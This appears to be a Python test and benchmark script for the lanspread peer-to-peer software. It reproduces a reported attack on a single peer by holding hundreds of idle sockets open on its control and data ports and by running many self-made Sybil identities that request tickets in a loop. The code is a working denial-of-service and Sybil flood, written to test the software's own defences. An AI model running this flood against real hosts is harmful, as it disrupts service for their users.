"""A stranger on the switch flooding one peer: idle sockets on both ports and Sybil identities.

Used by the flood scenario (``tests/netns``) and by ``bench/flood.py``.

* **Idle sockets**: ``idle`` TCP connections to each of the control and the data
  port that send nothing; every one the peer cuts is opened again.
* **Sybils**: ``sybils`` self-made identities, each holding a proven link to the
  control port and asking for a ticket in a loop (re-dialling when cut).

Connections come from the ``sources`` addresses in turn (ten idle sockets or
``SYBILS_PER_ADDRESS`` identities per address), so a host with several
addresses plays several strangers. The data port is learnt the honest way: a
Sybil asks for a ticket and reads it from the answer.

Usage (inside a namespace, driven by ``JsonlProcess``)::

    python stranger.py --target 10.213.0.2 --port 7000 --sources 10.213.0.3 --state-dir DIR
        [--idle 600] [--sybils 256] [--game quake3]

Events on stdout, one JSON object per line: ``flooding`` (``data_port``) once
every flood runs (two rounds of idle sockets on each port, every Sybil
dialled), and ``stats`` (counters of what the stranger got) after end of
stdin, which stops the flood; then it exits with status 0.
"""

from __future__ import annotations

import argparse
import asyncio
import collections
import contextlib
import json
import socket
import sys
from collections.abc import AsyncIterator, Sequence
from pathlib import Path

from lanspread.core.library import make_snapshot
from lanspread.errors import LanspreadError
from lanspread.net.connection import PeerConnection, _client_handshake
from lanspread.net.identity import PeerIdentity, load_or_create_identity
from lanspread.net.stream import FramedStream
from lanspread.net.tls import client_context
from lanspread.net.wire import Announcement, GetTicket

# The reported attack: 600 idle sockets per port and 256 self-made identities.
IDLE_SOCKETS = 600
SYBILS = 256
# Identities per source address (the per-address link cap of the peer server).
SYBILS_PER_ADDRESS = 32
# Idle sockets per source address before the next address is used.
IDLE_PER_ADDRESS = 10
# The stranger re-opens the sockets the peer cut this often.
REFLOOD_INTERVAL = 0.2
# A Sybil asks for a ticket again this often.
ASK_INTERVAL = 0.05
# A Sybil whose dial was refused tries again after this.
REDIAL_DELAY = 1.0
# Connects per burst stay below the listen backlog so the kernel drops no SYN.
CONNECT_BURST = 50
# The game whose tickets the Sybils ask for by default.
GAME = "quake3"

Stats = collections.Counter[str]


def announce(name: str) -> Announcement:
    return Announcement(
        name=name, listen_host="0.0.0.0", listen_port=9, library=make_snapshot(1, [])
    )


async def connect_from(source: str, host: str, port: int) -> socket.socket:
    sock = socket.socket()
    sock.setblocking(False)
    try:
        sock.bind((source, 0))
        await asyncio.get_running_loop().sock_connect(sock, (host, port))
    except BaseException:
        sock.close()
        raise
    return sock


async def idle_flood(
    sources: Sequence[str], host: str, port: int, count: int, stats: Stats
) -> None:
    """Keep ``count`` silent sockets open to ``host:port``, re-opening every cut one."""
    sockets: dict[int, socket.socket] = {}
    try:
        while True:
            missing = [n for n in range(count) if n not in sockets]
            for start in range(0, len(missing), CONNECT_BURST):
                batch = missing[start : start + CONNECT_BURST]
                opened = await asyncio.gather(
                    *(
                        connect_from(sources[n // IDLE_PER_ADDRESS % len(sources)], host, port)
                        for n in batch
                    ),
                    return_exceptions=True,
                )
                for number, sock in zip(batch, opened, strict=True):
                    if isinstance(sock, socket.socket):
                        sockets[number] = sock
                        stats[f"idle sockets opened on {port}"] += 1
            stats[f"idle rounds on {port}"] += 1
            await asyncio.sleep(REFLOOD_INTERVAL)
            for number, sock in list(sockets.items()):
                if _cut(sock):
                    sock.close()
                    del sockets[number]
    finally:
        for sock in sockets.values():
            sock.close()


def _cut(sock: socket.socket) -> bool:
    try:
        return sock.recv(1, socket.MSG_PEEK) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


async def sybil_dial(identity: PeerIdentity, source: str, host: str, port: int) -> PeerConnection:
    """A proven link from ``source``: the dialer's own handshake over a bound socket."""
    sock = await connect_from(source, host, port)
    try:
        reader, writer = await asyncio.open_connection(sock=sock)
    except BaseException:
        sock.close()
        raise
    try:
        await writer.start_tls(client_context(), server_hostname=host)
    except BaseException:
        writer.transport.abort()
        raise
    stream = FramedStream(reader, writer)
    try:
        ack = await _client_handshake(stream, identity, None, None, lambda: announce("sybil"))
    except BaseException:
        await stream.close()
        raise
    return PeerConnection._start(stream, ack)


async def sybil(
    identity: PeerIdentity, source: str, host: str, port: int, game: str, stats: Stats
) -> None:
    """Hold a link and ask for tickets in a loop, re-dialling when refused or cut."""
    while True:
        stats["sybil dials"] += 1
        try:
            link = await sybil_dial(identity, source, host, port)
        except (LanspreadError, OSError) as exc:
            stats[f"sybil dials refused ({type(exc).__name__})"] += 1
            await asyncio.sleep(REDIAL_DELAY)
            continue
        stats["sybil links"] += 1
        try:
            while not link.is_closed:
                try:
                    await link.request(GetTicket(game_id=game))
                    stats["sybil tickets granted"] += 1
                except LanspreadError as exc:
                    stats[f"sybil tickets refused ({type(exc).__name__})"] += 1
                await asyncio.sleep(ASK_INTERVAL)
            stats["sybil links cut"] += 1
        finally:
            await link.close()


async def data_port_of(identity: PeerIdentity, source: str, host: str, port: int, game: str) -> int:
    """Learn the data port as any peer does: from a ticket for a game it serves."""
    async with await sybil_dial(identity, source, host, port) as link:
        ticket = await link.request(GetTicket(game_id=game))
        return ticket.data_port


@contextlib.asynccontextmanager
async def flooding(
    sources: Sequence[str],
    host: str,
    control_port: int,
    data_port: int,
    identities: Sequence[PeerIdentity],
    stats: Stats,
    *,
    game: str = GAME,
    idle: int = IDLE_SOCKETS,
) -> AsyncIterator[None]:
    """Every flood runs while the block runs."""
    async with asyncio.TaskGroup() as group:
        tasks = [
            group.create_task(idle_flood(sources, host, control_port, idle, stats)),
            group.create_task(idle_flood(sources, host, data_port, idle, stats)),
            *(
                group.create_task(
                    sybil(
                        identity,
                        sources[n // SYBILS_PER_ADDRESS % len(sources)],
                        host,
                        control_port,
                        game,
                        stats,
                    )
                )
                for n, identity in enumerate(identities)
            ),
        ]
        try:
            yield
        finally:
            for task in tasks:
                task.cancel()


def make_identities(state_dir: Path, count: int) -> list[PeerIdentity]:
    """``count`` self-made identities (blocking: each writes a key and a certificate)."""
    return [load_or_create_identity(state_dir / f"sybil-{n}") for n in range(count)]


async def steady(stats: Stats, ports: Sequence[int], sybils: int) -> None:
    """Return once every port had two rounds of idle sockets and every Sybil dialled."""

    def ready() -> bool:
        rounds = all(stats[f"idle rounds on {port}"] >= 2 for port in ports)
        return rounds and stats["sybil dials"] >= sybils

    while not ready():  # noqa: ASYNC110 (no event exists for these counters)
        await asyncio.sleep(REFLOOD_INTERVAL)


def emit(event: str, **fields: object) -> None:
    print(json.dumps({"event": event, **fields}), flush=True)


async def main(args: argparse.Namespace) -> None:
    sources = args.sources.split(",")
    identities = await asyncio.to_thread(make_identities, Path(args.state_dir), args.sybils)
    data_port = await data_port_of(identities[0], sources[0], args.target, args.port, args.game)
    stats: Stats = collections.Counter()
    async with flooding(
        sources,
        args.target,
        args.port,
        data_port,
        identities,
        stats,
        game=args.game,
        idle=args.idle,
    ):
        await steady(stats, (args.port, data_port), len(identities))
        emit("flooding", data_port=data_port)
        await asyncio.to_thread(sys.stdin.read)
    emit("stats", **stats)


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description="flood one lanspread peer")
    parser.add_argument("--target", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--sources", required=True, help="comma-separated source addresses")
    parser.add_argument("--state-dir", required=True)
    parser.add_argument("--idle", type=int, default=IDLE_SOCKETS)
    parser.add_argument("--sybils", type=int, default=SYBILS)
    parser.add_argument("--game", default=GAME, help="a game the target serves")
    asyncio.run(main(parser.parse_args()))
